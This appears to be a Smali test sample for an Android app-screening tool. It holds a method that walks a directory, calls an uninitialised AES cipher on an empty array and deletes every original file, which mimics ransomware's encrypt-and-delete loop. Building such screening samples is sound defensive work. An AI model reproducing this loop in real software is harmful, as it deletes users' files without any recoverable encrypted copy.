.class public Lcom/appwarden/screen/r11/Vault;
.super Ljava/lang/Object;

# Round eleven: the app's own file-encrypting loop (our own smali): list, encrypt, delete the original.

.method public static lockAll(Ljava/io/File;)V
    .registers 7
    invoke-virtual {p0}, Ljava/io/File;->listFiles()[Ljava/io/File;
    move-result-object v0
    if-nez v0, :go
    return-void
    :go
    const-string v1, "AES"
    invoke-static {v1}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
    move-result-object v1
    array-length v2, v0
    const/4 v3, 0x0
    :loop
    if-ge v3, v2, :done
    aget-object v4, v0, v3
    const/4 v5, 0x0
    new-array v5, v5, [B
    invoke-virtual {v1, v5}, Ljavax/crypto/Cipher;->doFinal([B)[B
    invoke-virtual {v4}, Ljava/io/File;->delete()Z
    add-int/lit8 v3, v3, 0x1
    goto :loop
    :done
    return-void
.end method
